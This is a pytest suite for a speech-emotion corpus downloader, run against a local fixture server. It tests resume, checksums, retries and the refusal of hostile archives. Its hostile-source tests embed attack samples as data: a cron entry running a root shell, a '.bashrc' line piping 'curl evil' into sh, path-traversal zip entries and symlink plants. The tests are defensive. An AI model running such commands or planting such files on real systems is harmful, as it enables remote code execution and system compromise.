"""The corpus downloader against a local HTTP server on 127.0.0.1 serving fixture archives and file lists in
each source's real shape (Zenodo record, GitHub tree + LFS media, Dataverse dataset). Nothing touches the
internet."""

import contextlib
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import urllib.error
import wave
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from emotion_lightning.data import download as dl
from emotion_lightning.data.corpora import CremaD, Ravdess, Tess

REPO = Path(__file__).resolve().parents[1]
CORPUS_CONF = REPO / "conf" / "corpus"
FAST = {"retries": 2, "backoff": 0.0, "timeout": 10.0, "progress": False}


def emotion_map(name: str) -> dict:
    return OmegaConf.to_container(OmegaConf.load(CORPUS_CONF / f"{name}.yaml"))["emotion_map"]


def wav_bytes(seed: int, frames: int = 160) -> bytes:
    """A tiny 16-bit mono WAV whose samples depend on `seed`, so every fixture file differs."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(bytes((seed * 7 + i) % 256 for i in range(frames * 2)))
    return buffer.getvalue()


class FixtureServer(ThreadingHTTPServer):
    """Serves `routes` (path with query -> bytes) with HTTP Range support, records every request's path and
    Range header, and misbehaves on demand: `faults[path]` is a list of 'cut' (close the connection half-way
    through the body) or '500', one used per request; paths in `broken` answer 500 every time."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.routes: dict[str, bytes] = {}
        self.faults: dict[str, list[str]] = {}
        self.broken: set[str] = set()
        self.ignore_range = False
        self.redirects: dict[str, str] = {}  # path -> Location of a 302
        self.requests: list[tuple[str, str | None]] = []
        self.lock = threading.Lock()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def requests_for(self, path: str) -> list[str | None]:
        """The Range header (or None) of each request made for `path`."""
        return [rng for p, rng in self.requests if p == path]


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        server: FixtureServer = self.server
        with server.lock:
            server.requests.append((self.path, self.headers.get("Range")))
            pending = server.faults.get(self.path)
            fault = pending.pop(0) if pending else None
        if self.path in server.redirects:
            self.send_response(302)
            self.send_header("Location", server.redirects[self.path])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path in server.broken or fault == "500":
            self.send_error(500, "fixture server error")
            return
        body = server.routes.get(self.path)
        if body is None:
            self.send_error(404)
            return
        start = 0
        match = re.fullmatch(r"bytes=(\d+)-", self.headers.get("Range") or "")
        if match and not server.ignore_range:
            start = int(match.group(1))
            if start >= len(body):
                self.send_response(416)
                self.send_header("Content-Range", f"bytes */{len(body)}")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            self.send_response(206)
            self.send_header("Content-Range", f"bytes {start}-{len(body) - 1}/{len(body)}")
        else:
            self.send_response(200)
        rest = body[start:]
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        if fault == "cut":
            self.wfile.write(rest[: len(rest) // 2])
            self.wfile.flush()
            self.close_connection = True
            return
        self.wfile.write(rest)

    def log_message(self, *args):
        pass


@pytest.fixture
def server():
    httpd = FixtureServer()
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield httpd
    httpd.shutdown()
    httpd.server_close()


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


# Fixture corpora in each source's real shape -----------------------------------------------------------------

RAVDESS_CLIPS = [f"Actor_{actor:02d}/03-01-{emotion}-{intensity}-01-01-{actor:02d}.wav"
                 for actor in (1, 2) for emotion, intensity in (("01", "01"), ("05", "02"), ("08", "01"))]
RECORD_PATH = "/api/records/1188976"
ZIP_PATH = "/api/records/1188976/files/Audio_Speech_Actors_01-24.zip/content"


def serve_ravdess(server: FixtureServer, checksum: str | None = None) -> dict:
    """A Zenodo record listing the speech zip (Actor_XX/ folders at its root, as the real one) and a decoy."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for i, name in enumerate(RAVDESS_CLIPS):
            archive.writestr(name, wav_bytes(i))
    data = buffer.getvalue()
    record = {"id": 1188976, "files": [
        {"key": "Audio_Song_Actors_01-24.zip", "checksum": "md5:" + "0" * 32, "size": 5,
         "links": {"self": server.base + "/api/records/1188976/files/Audio_Song_Actors_01-24.zip/content"}},
        {"key": "Audio_Speech_Actors_01-24.zip", "checksum": checksum or "md5:" + md5(data), "size": len(data),
         "links": {"self": server.base + ZIP_PATH}},
    ]}
    server.routes[RECORD_PATH] = json.dumps(record).encode()
    server.routes[ZIP_PATH] = data
    server.routes["/api/records/1188976/files/Audio_Song_Actors_01-24.zip/content"] = b"wrong"
    return {"record_url": server.base + RECORD_PATH, "expected": len(RAVDESS_CLIPS)}


CREMA_CLIPS = ["1001_DFA_ANG_XX.wav", "1001_IEO_HAP_HI.wav", "1002_DFA_SAD_XX.wav", "1002_TIE_NEU_XX.wav"]
TREE_PATH = "/repos/CheyneyComputerScience/CREMA-D/git/trees/master?recursive=1"
DEMOGRAPHICS = (b"ActorID,Age,Sex,Race,Ethnicity\r\n1001,51,Male,Caucasian,Not Hispanic\r\n"
                b"1002,21,Female,Caucasian,Not Hispanic\r\n")


def serve_crema_d(server: FixtureServer) -> dict:
    """A GitHub tree (LFS audio listed as blobs with pointer sizes, other folders too) plus media and raw files."""
    tree = [{"path": "AudioWAV", "type": "tree", "sha": "t0"},
            {"path": "README.md", "type": "blob", "size": 10, "sha": "r0"},
            {"path": "VideoDemographics.csv", "type": "blob", "size": len(DEMOGRAPHICS), "sha": "d0"},
            {"path": "VideoFlash/1001_DFA_ANG_XX.flv", "type": "blob", "size": 131, "sha": "f0"}]
    for i, name in enumerate(CREMA_CLIPS):
        tree.append({"path": f"AudioWAV/{name}", "type": "blob", "size": 131, "sha": f"a{i}"})
        server.routes[f"/media/AudioWAV/{name}"] = wav_bytes(100 + i)
    server.routes[TREE_PATH] = json.dumps({"sha": "root", "tree": tree, "truncated": False}).encode()
    server.routes["/raw/VideoDemographics.csv"] = DEMOGRAPHICS
    return {"tree_url": server.base + TREE_PATH, "media_url": server.base + "/media/",
            "raw_url": server.base + "/raw/", "expected": len(CREMA_CLIPS)}


# (directoryLabel, file name): two as in the dataset's folders, two placed by their names, one not audio.
TESS_FILES = [("TESS Toronto emotional speech set data/OAF_angry", "OAF_back_angry.wav"),
              ("TESS Toronto emotional speech set data/YAF_sad", "YAF_bean_sad.wav"),
              (None, "OAF_chair_ps.wav"),
              (None, "YAF_dog_fear.wav"),
              (None, "README.txt")]
DATASET_PATH = "/api/datasets/:persistentId/?persistentId=doi:10.5683/SP2/E8H2MF"


def serve_tess(server: FixtureServer, bad_md5: str | None = None) -> dict:
    """A Dataverse dataset JSON (data.latestVersion.files[].dataFile with id, md5, filesize) and its files."""
    files = []
    for i, (label, name) in enumerate(TESS_FILES):
        body = wav_bytes(200 + i) if name.endswith(".wav") else b"read me"
        file_id = 5000 + i
        entry = {"label": name, "restricted": False,
                 "dataFile": {"id": file_id, "filename": name, "contentType": "audio/x-wav", "filesize": len(body),
                              "md5": "0" * 32 if name == bad_md5 else md5(body),
                              "checksum": {"type": "MD5", "value": md5(body)}}}
        if label:
            entry["directoryLabel"] = label
        files.append(entry)
        server.routes[f"/api/access/datafile/{file_id}"] = body
    dataset = {"status": "OK", "data": {"id": 1, "latestVersion": {"versionState": "RELEASED", "files": files}}}
    server.routes[DATASET_PATH] = json.dumps(dataset).encode()
    return {"dataset_url": server.base + DATASET_PATH, "file_url": server.base + "/api/access/datafile/{id}",
            "expected": 4}


def all_sources(server: FixtureServer) -> dict:
    return {"ravdess": serve_ravdess(server), "crema_d": serve_crema_d(server), "tess": serve_tess(server)}


def closed_port() -> int:
    """A port on 127.0.0.1 nothing listens on (connections are refused)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def leftovers(root: Path) -> list[Path]:
    """Temporary names an interrupted or failed run could leave behind."""
    return [p for p in root.rglob("*") if p.name.endswith((".part", ".tmp")) or p.name.startswith(".ravdess-unpack")]


# Full downloads ---------------------------------------------------------------------------------------------


def test_ravdess_downloads_verifies_and_unpacks_into_the_layout_the_parser_reads(server, tmp_path, capsys):
    source = serve_ravdess(server)
    assert dl.Ravdess(**source).install(tmp_path, **FAST) == len(RAVDESS_CLIPS)

    root = tmp_path / "ravdess"
    target = root / "Audio_Speech_Actors_01-24"
    assert sorted(p.relative_to(target).as_posix() for p in target.rglob("*.wav")) == sorted(RAVDESS_CLIPS)
    assert (target / RAVDESS_CLIPS[0]).read_bytes() == wav_bytes(0)
    assert not (root / "Audio_Speech_Actors_01-24.zip").exists()  # the archive is not kept by default
    assert leftovers(tmp_path) == []
    marker = dl.read_marker(root)
    assert marker["complete"] and marker["count"] == len(RAVDESS_CLIPS) and marker["source"] == source["record_url"]
    assert "CC BY-NC-SA 4.0" in capsys.readouterr().out  # license printed before the download

    corpus = Ravdess(root, emotion_map("ravdess"))
    files = corpus.audio_files()
    assert len(files) == len(RAVDESS_CLIPS)
    labels = {path.name: corpus.parse(path) for path in files}
    angry = labels["03-01-05-02-01-01-02.wav"]
    assert (angry.emotion, angry.intensity, angry.speaker, angry.gender) == ("05", "strong", "ravdess:02", "female")
    assert corpus.emotion_map[labels["03-01-08-01-01-01-01.wav"].emotion] == "surprised"
    assert labels["03-01-01-01-01-01-01.wav"].gender == "male"


def test_crema_d_downloads_audio_and_demographics_concurrently(server, tmp_path, capsys):
    source = serve_crema_d(server)
    assert dl.CremaD(**source).install(tmp_path, workers=3, **FAST) == len(CREMA_CLIPS)

    root = tmp_path / "crema_d"
    assert sorted(p.name for p in (root / "AudioWAV").iterdir()) == sorted(CREMA_CLIPS)
    assert (root / "AudioWAV" / CREMA_CLIPS[1]).read_bytes() == wav_bytes(101)
    assert (root / "VideoDemographics.csv").read_bytes() == DEMOGRAPHICS
    assert not (root / "VideoFlash").exists() and not (root / "README.md").exists()
    assert leftovers(tmp_path) == [] and dl.read_marker(root)["complete"]
    assert "Open Database License" in capsys.readouterr().out

    corpus = CremaD(root, emotion_map("crema_d"))
    labels = [corpus.parse(path) for path in corpus.audio_files()]
    assert [(c.speaker, c.gender, c.emotion) for c in labels] == [
        ("crema_d:1001", "male", "ANG"), ("crema_d:1001", "male", "HAP"),
        ("crema_d:1002", "female", "SAD"), ("crema_d:1002", "female", "NEU")]


def test_tess_downloads_each_file_by_id_into_speaker_emotion_folders(server, tmp_path, capsys):
    source = serve_tess(server)
    assert dl.Tess(**source).install(tmp_path, workers=2, **FAST) == 4

    root = tmp_path / "tess"
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*.wav")) == [
        "OAF_angry/OAF_back_angry.wav", "OAF_pleasant_surprised/OAF_chair_ps.wav", "YAF_fear/YAF_dog_fear.wav",
        "YAF_sad/YAF_bean_sad.wav"]
    assert not list(root.rglob("README.txt"))
    assert leftovers(tmp_path) == [] and dl.read_marker(root)["complete"]
    assert "CC BY-NC-ND 4.0" in capsys.readouterr().out

    corpus = Tess(root, emotion_map("tess"))
    assert sorted((c.speaker, c.emotion, c.text) for c in map(corpus.parse, corpus.audio_files())) == [
        ("tess:OAF", "angry", "back"), ("tess:OAF", "ps", "chair"), ("tess:YAF", "fear", "dog"),
        ("tess:YAF", "sad", "bean")]


def test_an_unknown_corpus_names_the_setting_and_the_choices(tmp_path):
    with pytest.raises(dl.DownloadError, match=r"corpus='tes' is not one of ravdess, crema_d, tess, all"):
        dl.download("tes", tmp_path)


def test_tess_folder_from_file_name():
    assert dl.tess_folder("OAF_back_angry.wav") == "OAF_angry"
    assert dl.tess_folder("yaf_youth_ps.wav") == "YAF_pleasant_surprised"
    with pytest.raises(dl.DownloadError, match="not <SPK>_<word>_<emotion>"):
        dl.tess_folder("angry.wav")


# Resume -----------------------------------------------------------------------------------------------------


def test_a_transfer_cut_mid_body_resumes_with_a_range_request(server, tmp_path):
    source = serve_ravdess(server)
    server.faults[ZIP_PATH] = ["cut"]
    dl.Ravdess(**source).install(tmp_path, **FAST)

    ranges = server.requests_for(ZIP_PATH)
    half = len(server.routes[ZIP_PATH]) // 2
    assert ranges == [None, f"bytes={half}-"]
    assert len(list((tmp_path / "ravdess").rglob("*.wav"))) == len(RAVDESS_CLIPS)
    assert dl.verify_install(tmp_path / "ravdess", len(RAVDESS_CLIPS)) is None


@pytest.mark.parametrize("ignore_range", [False, True], ids=["server-resumes", "server-ignores-range"])
def test_an_existing_part_file_is_resumed(server, tmp_path, ignore_range):
    source = serve_ravdess(server)
    server.ignore_range = ignore_range
    data = server.routes[ZIP_PATH]
    part = tmp_path / "ravdess" / "Audio_Speech_Actors_01-24.zip.part"
    part.parent.mkdir(parents=True)
    part.write_bytes(data[:100] if not ignore_range else b"x" * 100)  # garbage is fine when the server restarts

    dl.Ravdess(**source, keep_archive=True).install(tmp_path, **FAST)

    assert server.requests_for(ZIP_PATH) == ["bytes=100-"]
    assert (tmp_path / "ravdess" / "Audio_Speech_Actors_01-24.zip").read_bytes() == data
    assert not part.exists()
    assert dl.verify_install(tmp_path / "ravdess", len(RAVDESS_CLIPS)) is None


def test_per_file_download_resumes_with_the_files_still_missing(server, tmp_path):
    source = serve_crema_d(server)
    failing = "/media/AudioWAV/" + CREMA_CLIPS[2]
    server.broken.add(failing)
    with pytest.raises(dl.DownloadError) as caught:
        dl.CremaD(**source).install(tmp_path, workers=2, **{**FAST, "retries": 0})
    message = str(caught.value)
    assert "1 of 5 files failed" in message and CREMA_CLIPS[2] in message and "HTTP 500" in message
    root = tmp_path / "crema_d"
    assert not (root / "AudioWAV" / CREMA_CLIPS[2]).exists() and leftovers(tmp_path) == []
    assert dl.read_marker(root)["complete"] is False and dl.read_marker(root)["count"] == 4

    server.broken.clear()
    server.requests.clear()
    dl.CremaD(**source).install(tmp_path, workers=2, **FAST)
    assert sorted(path for path, _ in server.requests) == sorted([TREE_PATH, failing])
    assert dl.verify_install(root, len(CREMA_CLIPS)) is None


# Failures ---------------------------------------------------------------------------------------------------


def test_checksum_mismatch_deletes_the_download_and_unpacks_nothing(server, tmp_path):
    source = serve_ravdess(server, checksum="md5:" + "0" * 32)
    with pytest.raises(dl.ChecksumError) as caught:
        dl.Ravdess(**source).install(tmp_path, **FAST)
    message = str(caught.value)
    got = md5(server.routes[ZIP_PATH])
    assert server.base + ZIP_PATH in message and "expected md5:" + "0" * 32 in message and f"got md5:{got}" in message
    root = tmp_path / "ravdess"
    assert [p.name for p in root.iterdir()] == []  # no .part, no zip, nothing unpacked, no marker
    assert not list(tmp_path.glob(".ravdess-unpack-*"))


def test_a_zip_with_corrupt_compressed_data_is_one_clear_error_and_unpacks_nothing(tmp_path):
    # a local copy or mirror has no checksum to catch this: zlib's own error used to end in a traceback
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Actor_01/03-01-01-01-01-01-01.wav", wav_bytes(0, frames=20000))
    corrupt = bytearray(buffer.getvalue())
    for i in range(80, 200):
        corrupt[i] ^= 0xFF
    (tmp_path / "copy.zip").write_bytes(bytes(corrupt))
    with pytest.raises(dl.DownloadError, match=r"copy.zip is not a readable zip .*; delete it and run again"):
        dl.Ravdess().unpack(tmp_path / "copy.zip", tmp_path, tmp_path / "ravdess" / "Audio_Speech_Actors_01-24")
    assert leftovers(tmp_path) == [] and not (tmp_path / "ravdess").exists()


def test_tess_file_with_a_wrong_md5_is_not_kept(server, tmp_path):
    source = serve_tess(server, bad_md5="YAF_dog_fear.wav")
    with pytest.raises(dl.DownloadError, match=r"checksum mismatch for .*/api/access/datafile/5003"):
        dl.Tess(**source).install(tmp_path, **FAST)
    assert not (tmp_path / "tess" / "YAF_fear").exists() or not list((tmp_path / "tess" / "YAF_fear").iterdir())
    assert len(list((tmp_path / "tess").rglob("*.wav"))) == 3


def test_a_server_error_every_time_fails_after_bounded_retries(server, tmp_path):
    source = serve_ravdess(server)
    server.broken.add(ZIP_PATH)
    with pytest.raises(dl.DownloadError) as caught:
        dl.Ravdess(**source).install(tmp_path, **FAST)
    message = str(caught.value)
    assert f"giving up on {server.base + ZIP_PATH} after 3 attempts" in message and "HTTP 500" in message
    assert len(server.requests_for(ZIP_PATH)) == 3  # first try + retries=2
    assert not list((tmp_path / "ravdess").rglob("*.wav")) and dl.read_marker(tmp_path / "ravdess") is None


def test_a_crema_d_url_serving_lfs_pointers_is_refused(server, tmp_path):
    source = serve_crema_d(server)
    server.routes["/media/AudioWAV/" + CREMA_CLIPS[0]] = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\n"
    with pytest.raises(dl.DownloadError, match="Git LFS pointer"):
        dl.CremaD(**source).install(tmp_path, **FAST)
    assert not (tmp_path / "crema_d" / "AudioWAV" / CREMA_CLIPS[0]).exists()


@pytest.mark.parametrize("corpus,key,hint", [
    ("ravdess", "record_url", "https://zenodo.org/records/1188976"),
    ("crema_d", "tree_url", "git lfs install"),
    ("tess", "dataset_url", "https://doi.org/10.5683/SP2/E8H2MF"),
])
def test_no_network_names_the_url_and_the_manual_steps(tmp_path, corpus, key, hint):
    url = f"http://127.0.0.1:{closed_port()}/listing"
    with pytest.raises(dl.UnreachableError) as caught:
        dl.download(corpus, tmp_path, {corpus: {key: url}}, **FAST)
    message = str(caught.value)
    assert f"cannot reach {url}" in message and "by hand" in message and hint in message
    assert str(tmp_path / corpus) in message  # where to unpack it so the loader finds it
    assert not (tmp_path / corpus).exists()


# Idempotence and local copies -------------------------------------------------------------------------------


def test_a_second_run_verifies_and_makes_no_requests(server, tmp_path):
    sources = all_sources(server)
    assert dl.download("all", tmp_path, sources, workers=2, **FAST) == {"ravdess": 6, "crema_d": 4, "tess": 4}
    server.requests.clear()

    assert dl.download("all", tmp_path, sources, workers=2, **FAST) == {"ravdess": 6, "crema_d": 4, "tess": 4}
    assert server.requests == []

    # A file lost after the install fails verification; the next run fetches only that file.
    (tmp_path / "tess" / "OAF_angry" / "OAF_back_angry.wav").unlink()
    assert dl.verify_install(tmp_path / "tess", 4) is not None
    dl.download("tess", tmp_path, sources, **FAST)
    assert [path for path, _ in server.requests] == [DATASET_PATH, "/api/access/datafile/5000"]


def test_a_local_copy_of_the_archive_installs_without_network(server, tmp_path):
    serve_ravdess(server)
    local_zip = tmp_path / "mirror" / "Audio_Speech_Actors_01-24.zip"
    local_zip.parent.mkdir()
    local_zip.write_bytes(server.routes[ZIP_PATH])
    for url in (str(local_zip), local_zip.as_uri()):
        data_dir = tmp_path / ("data-" + url[:4])
        # the default record_url (Zenodo) stays set, as in the README's command: a local copy never asks it
        dl.Ravdess(archive_url=url, expected=len(RAVDESS_CLIPS)).install(data_dir, **FAST)
        assert len(list((data_dir / "ravdess" / "Audio_Speech_Actors_01-24").rglob("*.wav"))) == len(RAVDESS_CLIPS)
    assert local_zip.exists() and server.requests == []


def test_a_local_record_file_works_like_the_api(server, tmp_path):
    source = serve_ravdess(server)
    record = tmp_path / "record.json"
    record.write_bytes(server.routes[RECORD_PATH])
    dl.Ravdess(record_url=str(record), expected=source["expected"]).install(tmp_path / "data", **FAST)
    assert [path for path, _ in server.requests] == [ZIP_PATH]


def test_a_wrong_clip_count_is_reported_and_nothing_is_installed(server, tmp_path):
    source = serve_ravdess(server)
    with pytest.raises(dl.DownloadError, match=r"holds 6 clips in Actor_XX/ folders, 1440 expected"):
        dl.Ravdess(record_url=source["record_url"]).install(tmp_path, **FAST)
    assert not (tmp_path / "ravdess" / "Audio_Speech_Actors_01-24").exists()
    assert not list(tmp_path.glob(".ravdess-unpack-*"))


# The command ------------------------------------------------------------------------------------------------


def run_command(*overrides: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    env.pop("HYDRA_FULL_ERROR", None)
    return subprocess.run([sys.executable, "-m", "emotion_lightning.download", *overrides], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)


def source_overrides(sources: dict) -> list[str]:
    return [f"sources.{corpus}.{key}='{value}'" if isinstance(value, str) else f"sources.{corpus}.{key}={value}"
            for corpus, settings in sources.items() for key, value in settings.items()]


def test_the_command_downloads_all_corpora_from_its_config(server, tmp_path):
    result = run_command("corpus=all", f"data_dir={tmp_path}", "progress=false", "backoff=0",
                         *source_overrides(all_sources(server)))
    assert result.returncode == 0, result.stderr
    assert "CC BY-NC-SA 4.0" in result.stdout and "Open Database License" in result.stdout
    for corpus, count in (("ravdess", 6), ("crema_d", 4), ("tess", 4)):
        assert dl.verify_install(tmp_path / corpus, count) is None


def test_the_command_reports_an_expected_error_in_one_message_without_traceback(tmp_path):
    url = f"http://127.0.0.1:{closed_port()}/api/records/1188976"
    result = run_command("corpus=ravdess", f"data_dir={tmp_path}", f"sources.ravdess.record_url='{url}'")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith(f"error: cannot reach {url}") and str(tmp_path / "ravdess") in result.stderr


def test_a_connection_that_times_out_is_unreachable_at_once_not_retried():
    """A network that drops packets: say so after one timeout instead of retrying for minutes."""
    url = "https://zenodo.org/api/records/1188976"
    connect = dl._classify(url, urllib.error.URLError(socket.timeout("timed out")), "unzip it by hand")
    assert isinstance(connect, dl.UnreachableError) and "unzip it by hand" in str(connect)
    assert isinstance(dl._classify(url, TimeoutError("read timed out"), ""), dl._Retryable)  # mid-transfer: retry


def test_a_corpus_installed_by_hand_in_another_format_is_not_downloaded_again(tmp_path):
    """This project's machines keep RAVDESS as FLAC: found, so `make data` needs no network there."""
    actor = tmp_path / "ravdess" / "Audio_Speech_Actors_01-24" / "Actor_01"
    actor.mkdir(parents=True)
    for i in range(3):
        (actor / f"03-01-0{i + 1}-01-01-01-01.flac").write_bytes(b"fLaC")
    assert dl._already_installed("ravdess", tmp_path / "ravdess", expected=3)


# Hostile sources: archives, listings, URLs and leftovers ----------------------------------------------------

def ravdess_zip(path: Path, entries: dict[str, bytes] | list[tuple[str, bytes]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (entries.items() if isinstance(entries, dict) else entries):
            archive.writestr(name, data)
    return path


def clips(body=None) -> dict[str, bytes]:
    return {name: body if body is not None else wav_bytes(i) for i, name in enumerate(RAVDESS_CLIPS)}


def shutil_usage(**sizes):
    import shutil

    return shutil._ntuple_diskusage(**sizes)


def install_local(zip_path: Path, data_dir: Path, **settings) -> int:
    return dl.Ravdess(archive_url=str(zip_path), expected=len(RAVDESS_CLIPS), **settings).install(data_dir, **FAST)


def test_an_archive_declaring_more_than_the_cap_or_the_free_space_is_refused_before_unpacking(tmp_path, monkeypatch):
    big = clips()
    big[RAVDESS_CLIPS[0]] = wav_bytes(0) + bytes(20 * 2**20)  # 20 MB of zeros, a few KB zipped
    archive = ravdess_zip(tmp_path / "big.zip", big)
    assert archive.stat().st_size < 100_000
    with pytest.raises(dl.DownloadError, match=r"would unpack to 20 MB, more than sources.ravdess.max_unpacked_mb=10"):
        install_local(archive, tmp_path / "data", max_unpacked_mb=10)
    monkeypatch.setattr(dl.shutil, "disk_usage", lambda path: shutil_usage(total=2**30, used=2**30 - 2**20,
                                                                           free=2**20))
    with pytest.raises(dl.DownloadError, match=r"unpacks to 20 MB, but .* has only 1 MB free"):
        install_local(archive, tmp_path / "data")
    assert not (tmp_path / "data" / "ravdess").exists() and leftovers(tmp_path / "data") == []


def test_only_clips_of_the_layout_are_unpacked_and_recorded(tmp_path):
    entries = {**clips(), "etc/cron.d/PWNED_abs": b"* * * * * root sh", ".bashrc": b"curl evil | sh",
               "payload.py": b"import os", "Actor_01\\evil.wav": wav_bytes(9), "Actor_01/notes.txt": b"x",
               "__MACOSX/Actor_01/._03-01-01-01-01-01-01.wav": b"mac", "Actor_1/03-01-01-01-01-01-01.wav": wav_bytes(8),
               "../Actor_03/03-01-01-01-01-01-03.wav": wav_bytes(7)}
    install_local(ravdess_zip(tmp_path / "stray.zip", entries), tmp_path / "data")
    root = tmp_path / "data" / "ravdess"
    installed = sorted(p.relative_to(root / "Audio_Speech_Actors_01-24").as_posix()
                       for p in root.rglob("*") if p.is_file() and p.name != dl.MARKER)
    assert installed == sorted(RAVDESS_CLIPS)
    assert sorted(dl.read_marker(root)["files"]) == sorted(f"Audio_Speech_Actors_01-24/{c}" for c in RAVDESS_CLIPS)
    assert sorted(p.name for p in (tmp_path / "data").iterdir()) == ["ravdess"]


def test_clips_that_are_not_audio_are_not_installed_as_verified(tmp_path):
    with pytest.raises(dl.DownloadError, match=r"Actor_01/03-01-01-01-01-01-01.wav is not audio"):
        install_local(ravdess_zip(tmp_path / "fake.zip", clips(b"RIFFnotreallyawav")), tmp_path / "data")
    assert not (tmp_path / "data" / "ravdess").exists()


@pytest.mark.parametrize("duplicate", ["Actor_01/03-01-01-01-01-01-01.wav",
                                       "wrapper/Actor_01/03-01-01-01-01-01-01.wav"])
def test_an_archive_holding_a_clip_twice_is_refused(tmp_path, duplicate):
    entries = [*clips().items(), (duplicate, b"RIFF" + bytes(40))]
    with pytest.warns(UserWarning, match="Duplicate") if duplicate.startswith("Actor") else contextlib.nullcontext():
        archive = ravdess_zip(tmp_path / "twice.zip", entries)
    with pytest.raises(dl.DownloadError, match=r"holds Actor_01/03-01-01-01-01-01-01.wav twice"):
        install_local(archive, tmp_path / "data")
    assert not (tmp_path / "data" / "ravdess").exists()


def test_per_file_sources_install_only_audio_under_the_corpus_names(server, tmp_path):
    crema = serve_crema_d(server)
    server.routes[f"/media/AudioWAV/{CREMA_CLIPS[0]}"] = b"RIFFnotreallyawav"
    with pytest.raises(dl.DownloadError, match=r"(?s)1 of 5 files failed.*is not audio"):
        dl.CremaD(**crema).install(tmp_path, workers=2, **FAST)
    assert not (tmp_path / "crema_d" / "AudioWAV" / CREMA_CLIPS[0]).exists()
    tess = serve_tess(server)
    dataset = json.loads(server.routes[DATASET_PATH])
    dataset["data"]["latestVersion"]["files"][0]["dataFile"]["filename"] = "payload.py.wav"
    server.routes[DATASET_PATH] = json.dumps(dataset).encode()
    with pytest.raises(dl.DownloadError, match=r"lists OAF_angry/'payload.py.wav' .*not a TESS clip"):
        dl.Tess(**tess).install(tmp_path, **FAST)


@pytest.mark.parametrize("url, message", [
    ("http://emotion-mirror.invalid/Audio_Speech_Actors_01-24.zip", "plain http without a checksum"),
    ("data:application/zip;base64,UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==", "not an https, http, file:// URL"),
    ("ftp://127.0.0.1/Audio_Speech_Actors_01-24.zip", "not an https, http, file:// URL")])
def test_network_sources_must_be_https_or_checksummed(tmp_path, url, message):
    with pytest.raises(dl.DownloadError, match=message):
        dl.Ravdess(record_url=None, archive_url=url).install(tmp_path, **FAST)
    assert not (tmp_path / "ravdess").exists()


@pytest.mark.parametrize("location, message", [
    ("ftp://127.0.0.1/Audio_Speech_Actors_01-24.zip", "another scheme"),
    ("http://emotion-mirror.invalid/Audio_Speech_Actors_01-24.zip", "plain http without a checksum")])
def test_redirects_keep_the_scheme_and_the_rules(server, tmp_path, location, message):
    crema = serve_crema_d(server)
    server.redirects["/raw/VideoDemographics.csv"] = location
    with pytest.raises(dl.DownloadError, match=message):
        dl.CremaD(**crema).install(tmp_path, workers=1, **FAST)


def test_a_record_whose_file_link_is_a_local_path_is_refused(server, tmp_path):
    secret = tmp_path / "secret"
    secret.write_bytes(b"private")
    secret.chmod(0o600)
    source = serve_ravdess(server)
    record = json.loads(server.routes[RECORD_PATH])
    record["files"][1]["links"]["self"] = str(secret)
    server.routes[RECORD_PATH] = json.dumps(record).encode()
    with pytest.raises(dl.DownloadError, match=r"is '.*secret', not an http\(s\) URL"):
        dl.Ravdess(**source).install(tmp_path / "data", **FAST)
    assert not (tmp_path / "data" / "ravdess").exists() or list((tmp_path / "data" / "ravdess").iterdir()) == []


def test_a_leftover_part_without_size_or_checksum_is_not_trusted(server, tmp_path):
    crema = serve_crema_d(server)
    part = tmp_path / "crema_d" / "AudioWAV" / f"{CREMA_CLIPS[0]}.part"
    part.parent.mkdir(parents=True)
    served = server.routes[f"/media/AudioWAV/{CREMA_CLIPS[0]}"]
    part.write_bytes(served + b"planted tail")  # longer than the file: the server answers 416 to its Range
    dl.CremaD(**crema).install(tmp_path, workers=2, **FAST)
    assert (tmp_path / "crema_d" / "AudioWAV" / CREMA_CLIPS[0]).read_bytes() == served


def test_a_part_planted_as_a_symbolic_link_never_writes_through_it(server, tmp_path):
    source = serve_ravdess(server)
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    part = tmp_path / "data" / "ravdess" / "Audio_Speech_Actors_01-24.zip.part"
    part.parent.mkdir(parents=True)
    part.symlink_to(victim)
    assert dl.Ravdess(**source).install(tmp_path / "data", **FAST) == len(RAVDESS_CLIPS)
    assert victim.read_bytes() == b"precious" and not part.is_symlink()


def test_a_failed_unpack_leaves_nothing_behind(tmp_path):
    archive = ravdess_zip(tmp_path / "mirror" / "Audio_Speech_Actors_01-24.zip", dict(list(clips().items())[:5]))
    with pytest.raises(dl.DownloadError, match="holds 5 clips"):
        install_local(archive, tmp_path / "data")
    assert not (tmp_path / "data" / "ravdess").exists() and leftovers(tmp_path / "data") == []
    assert archive.exists()  # the user's own copy stays


def test_a_zip_given_where_the_download_lands_is_never_deleted(tmp_path):
    # the user's copy already sits at DATA_DIR/ravdess/<archive>: a failed unpack and a good one both keep it
    archive = ravdess_zip(tmp_path / "data" / "ravdess" / "Audio_Speech_Actors_01-24.zip",
                          dict(list(clips().items())[:5]))
